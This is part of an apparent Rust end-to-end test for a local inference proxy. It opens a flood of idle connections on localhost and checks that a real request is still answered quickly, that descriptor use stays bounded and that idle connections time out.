        clawos_e2e::skip(
            "an_idle_connection_flood_does_not_starve_a_real_request",
            "this test process cannot hold 2,000 fds (ulimit -Hn)",
        );
        return;
    }
    let upstream = FakeAnthropic::start(HOST_KEY);
    let work = tempfile::tempdir().expect("tmp");
    let tokens = work.path().join("tokens.json");
    std::fs::write(&tokens, r#"{"tok-agent-a": "agent-a"}"#).expect("tokens");
    let px_port = port();
    let log = work.path().join("proxy.log");
    let mut cmd = Command::new(clawos_e2e::bin("inference-proxy"));
    cmd.args([
        "--addr",
        &format!("127.0.0.1:{px_port}"),
        "--state-dir",
        work.path().join("state").to_str().expect("utf8"),
    ])
    .env("ANTHROPIC_API_KEY", HOST_KEY)
    .env("CLAWOS_PROXY_ANTHROPIC_URL", &upstream.url)
    .env("CLAWOS_PROXY_STATIC_TOKENS", &tokens)
    .env("CLAWOS_PROXY_INSECURE_DEV_TOKENS", "1")
    .env("CLAWOS_PROXY_HEADER_TIMEOUT_SECS", "2")
    .stdin(Stdio::null())
    .stdout(std::fs::File::create(&log).expect("log"))
    .stderr(std::fs::File::create(work.path().join("proxy.err")).expect("log"));
    // SAFETY: only async-signal-safe setrlimit between fork and exec.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut cmd, || {
            let l = libc::rlimit {
                rlim_cur: 1024,
                rlim_max: 1024,
            };
            if libc::setrlimit(libc::RLIMIT_NOFILE, &l) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let px = KillOnDrop(cmd.spawn().expect("spawn inference-proxy"));
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", px_port)).is_err() {
        assert!(Instant::now() < deadline, "proxy did not listen");
        std::thread::sleep(Duration::from_millis(30));
    }
    // The flood: connections that never send a byte.
    let mut idle = Vec::with_capacity(FLOOD);
    for _ in 0..FLOOD {
        // A dropped SYN (full accept queue) is retried by the kernel after 1 s.
        match std::net::TcpStream::connect_timeout(
            &([127, 0, 0, 1], px_port).into(),
            Duration::from_secs(3),
        ) {
            Ok(s) => idle.push(s),
            Err(e) => {
                eprintln!("connection {} failed: {e}", idle.len());
                break;
            }
        }
    }
    eprintln!("attacker holds {} idle connections", idle.len());
    // The clock starts once the proxy has taken in the flood, not after a guessed pause
    // (a request timed while the kernel still queues the flood's connections measures
    // the machine): its connection counters add up past the flood, and the `/metrics`
    // answer itself comes only after every connection queued before it was accepted
    // (the accept queue is first in, first out).
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let taken_in: u64 = proxy_metrics(px_port)
            .lines()
            .filter(|l| {
                [
                    "clawos_proxy_connections_open ",
                    "clawos_proxy_connections_evicted_total ",
                    "clawos_proxy_connections_refused_total ",
                    "clawos_proxy_connections_timed_out_total ",
                ]
                .iter()
                .any(|m| l.starts_with(m))
            })
            .filter_map(|l| l.split_whitespace().nth(1)?.parse::<u64>().ok())
            .sum();
        if taken_in > idle.len() as u64 {
            break; // (> : the metrics request is one of the open connections)
        }
        assert!(
            Instant::now() < deadline,
            "the proxy took in {taken_in} of {} connections in 30 s",
            idle.len()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    // A real agent request on a new connection, with a raw HTTP/1.1 client so the
    // timing includes the connect.
    let body =
        r#"{"model":"claude-test","max_tokens":8,"messages":[{"role":"user","content":"a b c"}]}"#;
    let t = Instant::now();
    let answer = (|| -> std::io::Result<String> {
        let mut c = std::net::TcpStream::connect_timeout(
            &([127, 0, 0, 1], px_port).into(),
            Duration::from_secs(1),
        )?;
        c.set_read_timeout(Some(Duration::from_secs(1)))?;
        write!(
            c,
            "POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: tok-agent-a\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        )?;
        let mut out = String::new();
        c.read_to_string(&mut out)?;
        Ok(out)
    })();
    let took = t.elapsed();
    let answer = answer.unwrap_or_else(|e| {
        panic!(
            "the real request failed after {took:?} with {} idle connections open: {e}\n{}",
            idle.len(),
            std::fs::read_to_string(&log).unwrap_or_default()
        )
    });
    assert!(
        answer.starts_with("HTTP/1.1 200") && answer.contains("Hello from fake claude"),
        "{answer}"
    );
    assert!(took < Duration::from_secs(1), "took {took:?}");
    eprintln!("real request answered in {took:?} under the flood");
    let fds = std::fs::read_dir(format!("/proc/{}/fd", px.0.id()))
        .map(|d| d.count())
        .unwrap_or(0);
    let limits = std::fs::read_to_string(&log)
        .unwrap_or_default()
        .lines()
        .find(|l| l.contains("listening"))
        .unwrap_or_default()
        .to_owned();
    eprintln!("proxy holds {fds} descriptors of 1024: {limits}");
    assert!(fds < 1000, "{fds} descriptors open");
    let metrics = proxy_metrics(px_port);
    let connection_metrics: Vec<&str> = metrics
        .lines()
        .filter(|l| l.starts_with("clawos_proxy_connections"))
        .collect();
    eprintln!("{connection_metrics:?}");
    assert!(
        connection_metrics.contains(&"clawos_proxy_connections_refused_total 0"),
        "idle connections made room; none was refused: {connection_metrics:?}"
    );
    // Connections that never send a request are closed after the header timeout (2 s).
    std::thread::sleep(Duration::from_secs(4));
    let mut closed = 0;
    for s in idle.iter_mut().rev().take(50) {
        s.set_read_timeout(Some(Duration::from_millis(50)))
            .expect("timeout");
        let mut b = [0u8; 512];
        loop {
            match s.read(&mut b) {
                Ok(0) => closed += 1,
                Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => closed += 1,
                // A refused connection is told so (503) before it is closed.
                Ok(_) => continue,
                Err(_) => {}
            }
            break;
        }
    }
    assert_eq!(
        closed, 50,
        "the newest idle connections were closed by the header timeout"
    );
}
